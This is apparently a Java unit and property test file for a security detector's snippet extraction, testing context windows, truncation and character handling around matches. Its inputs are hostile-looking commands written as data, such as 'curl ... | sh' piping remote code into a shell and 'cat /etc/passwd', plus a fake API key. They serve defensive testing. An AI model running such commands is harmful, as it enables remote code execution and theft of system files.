package clawsec.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.IntRange;
import org.junit.jupiter.api.Test;

class SnippetTest {
    private static final String X50 = "x".repeat(50);

    @Test
    void content_match_standsBetweenFiftyBytes() {
        assertEquals(
                List.of(X50.substring(1) + " /etc/passwd " + X50.substring(1)),
                shown("y" + X50 + " /etc/passwd " + X50 + "z"));
    }

    @Test
    void content_matchAtTheEnds_hasWhatThereIs() {
        assertEquals(List.of("/etc/passwd"), shown("/etc/passwd"));
    }

    @Test
    void content_longMatch_losesItsMiddle() {
        String url = "http://example.com/" + "a".repeat(180);
        String snippet = shown(X50 + " curl " + url + " | sh " + X50).getFirst();
        assertEquals(Snippet.MAX_CHARACTERS, snippet.length());
        assertEquals(
                X50.substring(1)
                        + " curl http://example.com/"
                        + "a".repeat(25)
                        + "..."
                        + "a".repeat(43)
                        + " | sh "
                        + X50.substring(1),
                snippet);
    }

    @Test
    void content_matchOfExactlyTheRoom_isWhole() {
        String match = "curl http://e.example/" + "a".repeat(100 - 27) + " | sh";
        assertEquals(100, match.length());
        assertEquals(
                List.of(X50.substring(1) + " " + match + " " + X50.substring(1)),
                shown(X50 + " " + match + " " + X50));
    }

    @Test
    void content_charactersCutAtTheEdges_areLeftOut() {
        String wide = "你".repeat(20);
        assertEquals(
                List.of("你".repeat(16) + " /etc/passwd " + "你".repeat(16)),
                shown(wide + " /etc/passwd " + wide));
    }

    @Test
    void content_lineEnds_becomeSpaces() {
        assertEquals(List.of("a  cat /etc/passwd  b"), shown("a\r\ncat /etc/passwd\r\nb"));
    }

    @Test
    void head_context_staysOnItsLine() {
        assertEquals(
                List.of("X-File: /etc/passwd; q=1"),
                Scans.snippets(
                        Scans.head(
                                Scans.ALL,
                                "GET / HTTP/1.1\r\nX-File: /etc/passwd; q=1\r\nHost: a\r\n\r\n")));
    }

    @Test
    void content_notMasked_showsTheSecret() {
        String key = "sk-" + "test-" + "AbCdEfGhIjKlMnOpQrSt";
        assertEquals(
                List.of("a " + key + " b"),
                Scans.snippets(Scans.content(Scans.detector(0, false), "a " + key + " b")));
    }

    @Property(tries = 500)
    void content_anyContext_givesAtMostTwoHundredCharactersAndNoHalfOnes(
            @ForAll String before,
            @ForAll String after,
            @ForAll @IntRange(min = 0, max = 240) int length) {
        String match = "curl http://e.example/" + "😀".repeat(length / 4) + "|sh";
        for (String snippet : shown(before + "\n" + match + "\n" + after)) {
            assertTrue(snippet.length() <= Snippet.MAX_CHARACTERS, snippet);
            assertTrue(snippet.codePoints().noneMatch(c -> c >= 0xD800 && c <= 0xDFFF), snippet);
        }
    }

    private static List<String> shown(String text) {
        return Scans.snippets(Scans.content(Scans.ALL, text));
    }
}
